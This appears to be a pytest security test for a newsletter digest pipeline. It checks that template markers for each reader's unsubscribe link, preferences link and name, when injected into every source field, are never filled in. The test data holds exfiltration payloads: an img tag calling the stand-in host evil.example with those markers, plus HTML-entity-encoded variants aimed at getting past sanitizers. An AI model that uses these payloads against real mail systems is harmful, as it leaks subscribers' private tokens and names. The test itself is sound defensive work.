"""Attack: content carrying digest's recipient markers, to have every reader's
unsubscribe link, preferences link and name filled into an image on the attacker's host.

The markers go into every field of every source type (feed, curated YAML and Markdown,
CSV, Bluesky, X, page enrichment); the edition is built and sent to real subscribers.
Each copy must carry the reader's links only where the template puts them.
"""

from __future__ import annotations

import email
import email.policy
import json
import mailbox
import re
from datetime import datetime
from pathlib import Path
from textwrap import dedent
from typing import Any

import httpx

from digest.config import Settings
from digest.delivery import send_edition
from digest.draft import approve, ensure_draft
from digest.models import RunReport
from digest.pipeline import current_period
from digest.sources import collect
from digest.store import Store
from digest.subscribers import add_subscriber

MARKERS = "%%DIGEST_UNSUBSCRIBE_URL%% %%DIGEST_PREFERENCES_URL%% %%DIGEST_SUBSCRIBER_NAME%%"
EVIL = "https://evil.example/c?u=%%DIGEST_UNSUBSCRIBE_URL%%&p=%%DIGEST_PREFERENCES_URL%%"
# the same, spelled as HTML character references a sanitizer decodes on the way through
ENTITIES = "&#37;&#37;DIGEST_UNSUBSCRIBE_URL&#37;&#37; &#x25;%DIGEST_SUBSCRIBER_NAME%&#x25;"
IMG = f'<img src="{EVIL}" alt="{MARKERS}"> {ENTITIES}'
NAME = "Zelda Quuxworth"
FEED_LINK = EVIL.replace("&", "&amp;") + "&amp;s=feed"


def feed_xml() -> str:
    return dedent(
        f"""\
        <?xml version="1.0"?>
        <rss version="2.0"><channel><title>{MARKERS}</title><link>https://blog.example/</link>
        <item><title>Feed story {MARKERS}</title><link>{FEED_LINK}</link>
        <guid>feed-1</guid><author>a@blog.example ({MARKERS})</author>
        <category>{MARKERS}</category><pubDate>Thu, 19 Nov 2026 12:00:00 GMT</pubDate>
        <description><![CDATA[<p>{MARKERS}</p>{IMG}]]></description></item>
        </channel></rss>
        """
    )


def write_curated(folder: Path) -> None:
    folder.mkdir()
    (folder / "win.yaml").write_text(
        json.dumps(
            {
                "title": f"Curated win {MARKERS}",
                "url": EVIL + "&s=yaml",
                "excerpt": f"{MARKERS} {IMG}",
                "date": "2026-11-18",
                "tags": [MARKERS],
                "outlet": MARKERS,
                "quote": MARKERS,
                "quote_by": MARKERS,
                "image": EVIL,
                "image_alt": MARKERS,
            }
        ),
        encoding="utf-8",
    )
    (folder / "story.md").write_text(
        f"---\ntitle: Markdown story {MARKERS}\ndate: 2026-11-19\n---\n{MARKERS}\n\n{IMG}\n",
        encoding="utf-8",
    )
    (folder / "bare.yaml").write_text(
        "url: https://page.example/enriched\ndate: 2026-11-18\n", encoding="utf-8"
    )


def write_csv(path: Path) -> None:
    row = [
        f"CSV row {MARKERS}",
        EVIL + "&s=csv",
        f"{MARKERS} {IMG}",
        MARKERS,
        "2026-11-18",
        MARKERS,
    ]
    path.write_text(
        "Title,URL,Excerpt,Outlet,Date,Tags\n" + ",".join(f'"{c}"' for c in row) + "\n",
        encoding="utf-8",
    )


PAGE = f"""<html><head><title>{MARKERS}</title>
<meta property="og:title" content="Enriched page {MARKERS}">
<meta property="og:description" content="{MARKERS}">
<meta property="og:site_name" content="{MARKERS}">
<meta property="og:image" content="{EVIL.replace("&", "&amp;")}">
<meta property="og:image:alt" content="{MARKERS}"></head></html>"""

BSKY_POST = {
    "uri": "at://did:plc:evil/app.bsky.feed.post/3a",
    "cid": "bafy3a",
    "author": {
        "did": "did:plc:evil",
        "handle": "evil.bsky.social",
        "displayName": f"Bluesky {MARKERS}",
        "avatar": EVIL,
    },
    "record": {
        "$type": "app.bsky.feed.post",
        "text": f"Bluesky post {MARKERS} {EVIL}",
        "createdAt": "2026-11-19T15:00:00Z",
    },
    "indexedAt": "2026-11-19T15:00:00Z",
    "embed": {
        "$type": "app.bsky.embed.images#view",
        "images": [{"thumb": EVIL, "fullsize": EVIL, "alt": MARKERS}],
    },
}

X_TWEETS = {
    "data": [
        {
            "id": "555",
            "text": f"X post {MARKERS} https://t.co/x",
            "author_id": "7",
            "created_at": "2026-11-19T12:00:00.000Z",
            "attachments": {"media_keys": ["m1"]},
            "entities": {
                "urls": [
                    {
                        "start": 90,
                        "end": 104,
                        "url": "https://t.co/x",
                        "expanded_url": EVIL,
                        "display_url": MARKERS,
                    }
                ]
            },
        }
    ],
    "includes": {
        "users": [{"id": "7", "username": "evilx", "name": f"X {MARKERS}"}],
        "media": [{"media_key": "m1", "type": "photo", "url": EVIL, "alt_text": MARKERS}],
    },
    "meta": {"result_count": 1},
}


def handler(request: httpx.Request) -> httpx.Response:
    path = request.url.path
    if path == "/xrpc/app.bsky.feed.getAuthorFeed":
        return httpx.Response(200, json={"feed": [{"post": BSKY_POST}]})
    if path.startswith("/2/users/by/username/"):
        return httpx.Response(200, json={"data": {"id": "7", "username": "evilx"}})
    if path.startswith("/2/users/7/tweets"):
        return httpx.Response(200, json=X_TWEETS)
    if request.url.host == "page.example":
        return httpx.Response(200, text=PAGE, headers={"content-type": "text/html"})
    return httpx.Response(404)


def attack_settings(make_settings: Any, tmp_path: Path, monkeypatch: Any) -> Settings:
    monkeypatch.setenv("X_BEARER", "token")
    (tmp_path / "feed.xml").write_text(feed_xml(), encoding="utf-8")
    write_curated(tmp_path / "curated")
    write_csv(tmp_path / "sheet.csv")
    origin = {"name": f"Origin {MARKERS}", "url": EVIL}
    return make_settings(  # type: ignore[no-any-return]
        network={"allow_private": True},
        sources={
            "blog": {"type": "feed", "path": str(tmp_path / "feed.xml"), "origin": origin},
            "curated": {"type": "curated", "path": "curated", "origin": origin},
            "sheet": {"type": "csv", "path": "sheet.csv", "origin": origin},
            "sky": {
                "type": "bluesky",
                "accounts": [{"handle": "evil.bsky.social", "origin": origin}],
            },
            "x": {
                "type": "x",
                "enabled": True,
                "bearer_token": "${X_BEARER}",
                "accounts": [{"handle": "evilx", "origin": origin}],
            },
        },
    )


def test_markers_in_collected_content_never_receive_a_readers_values(
    make_settings: Any, store: Store, now: datetime, tmp_path: Path, monkeypatch: Any
) -> None:
    settings = attack_settings(make_settings, tmp_path, monkeypatch)
    report = RunReport()
    collect(settings, store, report, transport=httpx.MockTransport(handler), now=now)
    assert report.sources_failed == 0, report.warnings
    assert report.items_new == 7  # feed, 2 curated + 1 enriched, CSV, Bluesky, X
    with store.session() as session:
        add_subscriber(session, "reader@example.net", now, name=NAME, lists=("weekly",))
    edition = ensure_draft(
        settings, store, "weekly", current_period(settings, "weekly", now), now=now
    )
    assert edition is not None
    assert edition.item_count == 7
    assert edition.id is not None
    approve(settings, store, edition.id, actor="test", now=now)  # drafts are not sent
    send_edition(settings, store, edition.id, RunReport(), now=now)

    (message,) = list(mailbox.Maildir(tmp_path / "out" / "outbox", create=False))
    parsed = email.message_from_bytes(message.as_bytes(), policy=email.policy.default)
    unsubscribe = re.search(r"<(https://[^>]+/u/[^>]+)>", str(parsed["List-Unsubscribe"]))
    assert unsubscribe is not None
    token_url = unsubscribe.group(1)
    for part in parsed.walk():
        if part.get_content_maintype() != "text":
            continue
        body = part.get_content()
        # the legitimate path: the reader's own link, once, in the footer
        assert body.count(token_url) == 1, part.get_content_type()
        assert body.count("/p/") == 1  # the preferences link, once
        assert NAME not in body  # the name never reaches content
        assert "Feed story" in body and "Bluesky post" in body and "X post" in body
        for url in re.findall(r"https://evil\.example/[^\s\"'<>]*", body):
            assert "/u/" not in url and "/p/" not in url
    assert "%%DIGEST_UNSUBSCRIBE_URL" not in edition.web_html
